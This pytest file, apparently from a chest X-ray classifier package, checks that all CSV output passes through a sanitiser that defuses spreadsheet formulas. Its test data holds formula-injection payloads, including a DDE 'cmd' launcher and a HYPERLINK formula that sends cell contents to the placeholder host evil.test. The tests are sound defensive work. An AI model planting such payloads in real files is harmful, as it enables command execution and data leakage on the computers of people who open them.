"""Every CSV cxr writes goes through cxr.spreadsheet: no other writer in the package, a sender's
formula in a reviews export is neutralised, numbers pass unchanged, and cxr reads back what it
wrote (predictions, history, labels.csv)."""

from __future__ import annotations

import csv
import re
import shutil
from pathlib import Path

import numpy as np
import pytest

import cxr
from cxr.data.discovery import discover
from cxr.data.preprocess import Preprocessing
from cxr.evaluation.plots import read_history
from cxr.evaluation.predictions import Predictions, read_predictions_csv
from cxr.models.card import ModelCard, Threshold
from cxr.spreadsheet import read_cell, safe_cell
from cxr.store import worklist
from cxr.store.database import open_database
from cxr.store.export import export_reviews
from cxr.store.worklist import Queue, Received
from cxr.training.fit import write_history

PACKAGE = Path(cxr.__file__).parent
WRITERS = re.compile(
    r"csv\.writer\b|DictWriter|\bwriterows?\(|\.to_csv\(|from csv import|savetxt\("
    r"""|["'],["']\.join\("""  # a hand-joined row
)
FORMULAS = ["=HYPERLINK(\"http://x.test/?\"&A1)", "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3",
            "\t=1", "\r=1", "-", "-inf"]  # fmt: skip
NUMBERS = ["-0.5", "-1.2e-05", "+3", "0.250000", "-7", "1E+3", "-.5"]


def test_no_csv_writer_but_cxr_spreadsheet_in_the_package():
    found = {
        f"{path.relative_to(PACKAGE)}:{n}: {line.strip()}"
        for path in PACKAGE.rglob("*.py")
        for n, line in enumerate(path.read_text().splitlines(), 1)
        if WRITERS.search(line)
    }
    assert found and all(hit.startswith("spreadsheet.py:") for hit in found), sorted(found)


def test_formulas_get_an_apostrophe_numbers_pass_and_read_cell_undoes_it():
    assert [safe_cell(v) for v in FORMULAS] == ["'" + v for v in FORMULAS]
    assert [safe_cell(v) for v in NUMBERS] == NUMBERS
    assert [safe_cell(v) for v in (-0.5, 3, "/data/x.png", "'quoted")] == [
        -0.5, 3, "/data/x.png", "'quoted"
    ]  # fmt: skip
    for value in [*FORMULAS, *NUMBERS, "/data/x.png", "'quoted", ""]:
        assert read_cell(safe_cell(value)) == value


def test_a_reviews_export_neutralises_a_senders_formula_and_reads_back(data, tmp_path):
    study, reviewer = '=HYPERLINK("http://evil.test/?"&A1,"open")', "@SUM(1+1)"
    source = sorted((data / "dicom_cxr" / "kermany_wrapped").glob("*.dcm"))[0]
    spooled = tmp_path / "spool" / "1.2.826.7_00aa.dcm"
    spooled.parent.mkdir()
    shutil.copy(source, spooled)
    threshold = {"rule": "fixed:0.5", "positive_class": "PNEUMONIA", "value": 0.5}
    with open_database(f"sqlite:///{tmp_path / 'worklist.db'}").begin() as session:
        worklist.record(session, Received(
            "1.2.826.7", "00aa", study, "1.2.826.1", "dcm-0123", str(spooled), "scored",
            classes=["NORMAL", "PNEUMONIA"], probabilities=[0.2, 0.8], predicted="PNEUMONIA",
            urgency=0.8, threshold=threshold, model_fingerprint="-1+1",
        ))  # fmt: skip
        (row,) = worklist.queue(session, Queue.PENDING)
        worklist.review(session, row.id, "NORMAL", "", reviewer)
        export_reviews(session, tmp_path / "reviewed", "test")
    with (tmp_path / "reviewed" / "labels.csv").open(newline="") as fh:
        (written,) = list(csv.DictReader(fh))
    assert written["study_instance_uid"] == "'" + study
    assert written["reviewed_by"] == "'" + reviewer
    assert written["model_fingerprint"] == "'-1+1"
    assert not [v for v in written.values() if v.startswith(("=", "+", "-", "@", "\t", "\r"))]
    (record,) = discover(tmp_path / "reviewed").records  # a de-identified copy, not a link
    assert record.label == "NORMAL" and not record.path.is_symlink()
    assert record.path.parent == tmp_path / "reviewed" / "images"


def test_predictions_read_back_as_written_formula_like_names_and_all(tmp_path):
    card = ModelCard("cxr_cnn", {}, ("NORMAL", "PNEUMONIA"), Preprocessing(size=128),
                     threshold=Threshold(0.5, "fixed:0.5", "PNEUMONIA"))  # fmt: skip
    written = Predictions(
        name="run", card=card, split="test",
        paths=["=HYPERLINK(x).png", "/data/b.png", "-c.png"], digest=["d1", "d2", "d3"],
        patients=["+44 20 7946", "-17", "patient3"], labels=["NORMAL", "PNEUMONIA", "NORMAL"],
        probs=np.array([[0.9, 0.1], [0.25, 0.75], [0.5, 0.5]]),
    )  # fmt: skip
    written.write_csv(tmp_path / "predictions.csv")
    read = read_predictions_csv(tmp_path / "predictions.csv", card)
    assert (read["paths"], read["patients"]) == (written.paths, written.patients)
    assert read["labels"] == written.labels
    assert np.array_equal(read["probs"], written.probs)


def test_history_reads_back_its_numbers_negative_and_exponents_too(tmp_path):
    logged = tmp_path / "metrics.csv"
    logged.write_text(
        "epoch,step,train_loss_epoch,train_acc,val_loss,val_acc,val_auroc\n"
        "0,10,0.693,0.5,,,\n"
        "0,10,,,-0.25,0.5,0.6\n"
        "1,20,1.5e-05,0.75,-1e-03,0.75,0.8\n"
    )
    assert write_history(logged, tmp_path / "history.csv") == 2
    history = read_history(tmp_path / "history.csv")
    assert history["epoch"].tolist() == [1, 2]
    assert history["train_loss"].tolist() == [0.693, 1.5e-05]
    assert history["val_loss"].tolist() == [-0.25, -1e-03]
    assert history["val_auroc"].tolist() == pytest.approx([0.6, 0.8])
